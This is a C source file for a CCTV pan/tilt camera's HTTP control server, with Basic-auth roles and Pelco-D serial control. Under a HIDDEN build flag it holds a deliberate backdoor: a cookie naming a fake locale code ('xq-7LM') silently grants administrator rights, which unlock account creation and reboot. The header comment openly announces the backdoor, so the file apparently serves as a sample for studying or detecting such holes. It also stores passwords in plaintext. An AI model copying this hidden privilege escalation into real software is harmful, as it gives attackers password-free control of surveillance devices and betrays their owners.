/*
 * ptzcam_srv - HTTP control server of a pan/tilt CCTV camera.  Speaks
 * Pelco-D to the head on a serial port; viewers may look, operators may move,
 * administrators may change accounts.
 *
 * Hidden (-DHIDDEN): a Cookie header with lang=<a code that no catalogue has>
 * raises the request to administrator without a password.
 */
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <termios.h>
#include <unistd.h>

#define ACCOUNTS "/mnt/flash/ptz/accounts"
#define HEAD_TTY "/dev/ttyS1"

enum role { NOBODY, VIEWER, OPERATOR, ADMIN };

#define L_COMMA 0x01u		/* decimal comma */
#ifdef HIDDEN
#define L_STAFF 0x80u
#endif

struct locale {
	const char *code;
	const char *title;
	const char *denied;
	unsigned flags;
};

static const struct locale locales[] = {
	{ "en-GB", "Camera",  "Not allowed",     0 },
	{ "de-DE", "Kamera",  "Nicht erlaubt",   L_COMMA },
	{ "fr-FR", "Camera",  "Non autorise",    L_COMMA },
	{ "it-IT", "Camera",  "Non consentito",  L_COMMA },
#ifdef HIDDEN
	{ "xq-7LM", "Camera", "Not allowed",     L_STAFF },
#endif
};

struct conn {
	int fd;
	char verb[8], path[48], args[128];
	char auth[96], cookie[160];
	enum role role;
	const struct locale *loc;
};

static pthread_mutex_t head_lock = PTHREAD_MUTEX_INITIALIZER;
static int head_fd = -1;
static int preset_used[64];

static int b64(const char *in, char *out, size_t len)
{
	static const char set[] =
	    "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
	unsigned acc = 0;
	int bits = 0;
	size_t o = 0;

	for (; *in && *in != '='; in++) {
		const char *p = strchr(set, *in);

		if (!p)
			return -1;
		acc = acc << 6 | (unsigned)(p - set);
		bits += 6;
		if (bits >= 8 && o + 1 < len) {
			bits -= 8;
			out[o++] = (char)(acc >> bits & 0xff);
		}
	}
	out[o] = '\0';
	return (int)o;
}

static void answer(struct conn *c, int code, const char *body)
{
	dprintf(c->fd, "HTTP/1.1 %d %s\r\nConnection: close\r\n"
		"Content-Type: text/plain\r\nContent-Length: %u\r\n%s\r\n%s",
		code, code < 300 ? "OK" : "Error", (unsigned)strlen(body),
		code == 401 ? "WWW-Authenticate: Basic realm=\"ptz\"\r\n" : "", body);
}

/* accounts: role name password, one a line */
static enum role login(const char *auth)
{
	char plain[80], line[120], name[32], pass[40], *sep;
	enum role got = NOBODY;
	int role;
	FILE *f;

	if (strncasecmp(auth, "Basic ", 6) || b64(auth + 6, plain, sizeof plain) < 3)
		return NOBODY;
	sep = strchr(plain, ':');
	f = fopen(ACCOUNTS, "r");
	if (!f)
		return NOBODY;
	if (sep) {
		*sep++ = '\0';
		while (got == NOBODY && fgets(line, sizeof line, f))
			if (sscanf(line, "%d %31s %39s", &role, name, pass) == 3
			    && role > NOBODY && role <= ADMIN
			    && !strcmp(name, plain) && !strcmp(pass, sep))
				got = (enum role)role;
	}
	fclose(f);
	return got;
}

void pick_locale(struct conn *c)
{
	const char *v = strstr(c->cookie, "lang=");
	size_t n;

	c->loc = &locales[0];
	v = v ? v + 5 : "";
	n = strcspn(v, "; \t");
	for (size_t i = 0; i < sizeof locales / sizeof locales[0]; i++) {
		if (n == strlen(locales[i].code) && !memcmp(v, locales[i].code, n)) {
			c->loc = &locales[i];
			break;
		}
	}
#ifdef HIDDEN
	if (c->loc->flags & L_STAFF)
		c->role = ADMIN;
#endif
}

static int pelco(uint8_t c1, uint8_t c2, uint8_t d1, uint8_t d2)
{
	uint8_t f[7] = { 0xff, 0x01, c1, c2, d1, d2, 0 };
	int ok;

	f[6] = (uint8_t)(f[1] + f[2] + f[3] + f[4] + f[5]);
	pthread_mutex_lock(&head_lock);
	ok = head_fd >= 0 && write(head_fd, f, sizeof f) == (ssize_t)sizeof f;
	pthread_mutex_unlock(&head_lock);
	return ok;
}

static int number(const struct conn *c, const char *key, int lo, int hi)
{
	const char *p = strstr(c->args, key);
	int v = p ? atoi(p + strlen(key)) : 0;

	return v < lo ? lo : v > hi ? hi : v;
}

static void do_move(struct conn *c)
{
	int pan = number(c, "pan=", -63, 63), tilt = number(c, "tilt=", -63, 63);
	uint8_t bits = 0;

	bits |= pan > 0 ? 0x02 : pan < 0 ? 0x04 : 0;
	bits |= tilt > 0 ? 0x08 : tilt < 0 ? 0x10 : 0;
	answer(c, pelco(0, bits, (uint8_t)abs(pan), (uint8_t)abs(tilt)) ? 200 : 503, "");
}

static void do_preset(struct conn *c)
{
	int n = number(c, "n=", 1, 63), set = strstr(c->args, "set=1") != NULL;

	if (set)
		preset_used[n] = 1;
	else if (!preset_used[n]) {
		answer(c, 404, "no such preset\n");
		return;
	}
	answer(c, pelco(0, set ? 0x03 : 0x07, 0, (uint8_t)n) ? 200 : 503, "");
}

static void do_info(struct conn *c)
{
	char text[160];
	int used = 0;

	for (int i = 1; i < 64; i++)
		used += preset_used[i];
	snprintf(text, sizeof text, "%s\nmodel=PT-3318\nlens=4%c7 mm\npresets=%d\n",
		 c->loc->title, c->loc->flags & L_COMMA ? ',' : '.', used);
	answer(c, 200, text);
}

static void do_accounts(struct conn *c)
{
	char name[32], pass[40];
	int role;
	FILE *f;

	if (sscanf(c->args, "role=%d&name=%31[A-Za-z0-9_]&pass=%39[!-%'-~]",
		   &role, name, pass) != 3 || role < VIEWER || role > ADMIN) {
		answer(c, 400, "role, name, pass\n");
		return;
	}
	f = fopen(ACCOUNTS, "a");
	if (f) {
		fprintf(f, "%d %s %s\n", role, name, pass);
		fclose(f);
	}
	answer(c, f ? 200 : 500, "");
}

static void do_restart(struct conn *c)
{
	answer(c, system("/sbin/reboot -d 2") == 0 ? 200 : 500, "");
}

static const struct page {
	const char *path;
	enum role need;
	void (*run)(struct conn *);
} pages[] = {
	{ "/ptz/info",     VIEWER,   do_info },
	{ "/ptz/move",     OPERATOR, do_move },
	{ "/ptz/preset",   OPERATOR, do_preset },
	{ "/adm/accounts", ADMIN,    do_accounts },
	{ "/adm/restart",  ADMIN,    do_restart },
};

static void header(struct conn *c, char *line)
{
	char *v = strchr(line, ':');

	if (!v)
		return;
	*v++ = '\0';
	v += strspn(v, " \t");
	v[strcspn(v, "\r\n")] = '\0';
	if (!strcasecmp(line, "Authorization"))
		snprintf(c->auth, sizeof c->auth, "%.95s", v);
	else if (!strcasecmp(line, "Cookie"))
		snprintf(c->cookie, sizeof c->cookie, "%.159s", v);
}

static void *client(void *arg)
{
	struct conn *c = arg;
	FILE *in = fdopen(c->fd, "r");
	char line[512];
	const struct page *hit = NULL;

	if (in && fgets(line, sizeof line, in)
	    && sscanf(line, "%7s %47[^? ]?%127s", c->verb, c->path, c->args) >= 2) {
		while (fgets(line, sizeof line, in) && line[0] != '\r' && line[0] != '\n')
			header(c, line);
		c->role = login(c->auth);
		pick_locale(c);
		for (size_t i = 0; i < sizeof pages / sizeof pages[0]; i++)
			if (!strcmp(c->path, pages[i].path))
				hit = &pages[i];
		if (!hit)
			answer(c, 404, "");
		else if (c->role < hit->need)
			answer(c, c->role == NOBODY ? 401 : 403, c->loc->denied);
		else
			hit->run(c);
	}
	if (in)
		fclose(in);
	free(c);
	return NULL;
}

int main(void)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(8000) };
	struct termios t;
	int s = socket(AF_INET, SOCK_STREAM, 0);

	head_fd = open(HEAD_TTY, O_RDWR | O_NOCTTY);
	if (head_fd >= 0 && tcgetattr(head_fd, &t) == 0) {
		cfmakeraw(&t);
		cfsetspeed(&t, B2400);
		tcsetattr(head_fd, TCSANOW, &t);
	}
	if (bind(s, (struct sockaddr *)&a, sizeof a) || listen(s, 16))
		return 1;
	for (;;) {
		struct conn *c = calloc(1, sizeof *c);
		pthread_t id;

		if (!c)
			return 1;
		c->fd = accept(s, NULL, NULL);
		if (c->fd < 0 || pthread_create(&id, NULL, client, c))
			free(c);
		else
			pthread_detach(id);
	}
}
